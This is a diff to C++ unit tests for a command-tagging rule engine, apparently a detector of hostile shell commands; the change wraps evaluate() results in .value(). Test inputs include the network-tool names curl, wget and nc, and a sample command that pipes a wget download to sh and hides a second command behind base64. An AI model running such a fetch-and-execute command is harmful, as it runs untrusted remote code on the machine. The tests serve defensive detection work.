@@ -249,7 +249,7 @@ BOOST_AUTO_TEST_CASE(a_change_without_memory_leaves_the_rules_as_they_were) {
             rules.apply(change); // it works now, whichever allocation failed
             BOOST_TEST(rules.digest() != before);
             BOOST_TEST(rules.revision() == 2u);
-            auto const tags = rules.evaluate(test::command("curl wget nc x"), test::noon).tags;
+            auto const tags = rules.evaluate(test::command("curl wget nc x"), test::noon).value().tags;
             BOOST_TEST(tags.size() >= 1u);
         });
         BOOST_TEST(allocations > 3);
@@ -379,7 +379,7 @@ BOOST_AUTO_TEST_CASE(evaluation_after_one_without_memory_comes_to_the_same) {
     engine rules;
     rules.replace(some_rules());
     auto const observed = test::command("wget http://192.0.2.1/x \"quoted\" | sh; $(echo d2dldA== | base64 -d)");
-    auto const expected = rules.evaluate(observed, test::noon).tags.size();
+    auto const expected = rules.evaluate(observed, test::noon).value().tags.size();
     BOOST_TEST(expected >= 2u);
     at_every_allocation([&](long n, bool& happened) {
         engine fresh;
